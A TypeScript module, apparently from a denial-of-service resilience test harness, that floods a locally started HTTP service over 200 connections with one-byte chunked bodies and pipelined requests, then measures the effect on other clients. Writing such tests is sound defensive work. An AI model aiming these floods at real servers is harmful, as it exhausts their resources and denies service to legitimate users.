// Bytes that cost far more to parse than to send: chunks of one byte, and pipelined requests, on many
// connections at once.
import type { Socket } from 'node:net';
import { startAbused } from './abused-service.ts';
import { attackerAddress, openSocket } from './attack-client.ts';
import { sleep, type Row, type Target } from './attack.ts';
import { probedDuring } from './prober.ts';

const connections = 200;
/** The bytes of one read. */
const bytesPerConnection = 64 * 1024;
/** The first requests of a process take longer, whatever else it does. */
const warmUpMilliseconds = 1_000;
const aftermathMilliseconds = 3_000;

const floods: Readonly<Record<string, string>> = {
  'a body in chunks of one byte': '1\r\nx\r\n',
  'pipelined requests': 'GET / HTTP/1.1\r\nHost:a\r\n\r\n',
};

export async function costlyReads(target: Target): Promise<Row[]> {
  const rows: Row[] = [];
  for (const [what, unit] of Object.entries(floods)) rows.push(await flooded(target, what, unit));
  return rows;
}

async function flooded(target: Target, what: string, unit: string): Promise<Row> {
  const service = await startAbused(target);
  const sockets: Socket[] = [];
  for (let index = 0; index < connections; index += 1) {
    const socket = await openSocket(service.port, attackerAddress);
    if (socket !== undefined) sockets.push(socket.on('error', () => {}));
  }
  const head = unit.startsWith('GET')
    ? ''
    : 'POST /orders HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n';
  const bytes = head + unit.repeat(Math.floor((bytesPerConnection - head.length) / unit.length));
  const [, others] = await probedDuring(service.port, async () => {
    await sleep(warmUpMilliseconds);
    for (const socket of sockets) socket.write(bytes);
    await sleep(aftermathMilliseconds);
  });
  for (const socket of sockets) socket.destroy();
  await service.stop();
  return {
    attack: '4 costly reads',
    done: `${what}, 64 KiB of it at once on each of ${sockets.length} connections of another address`,
    achieved: others,
  };
}
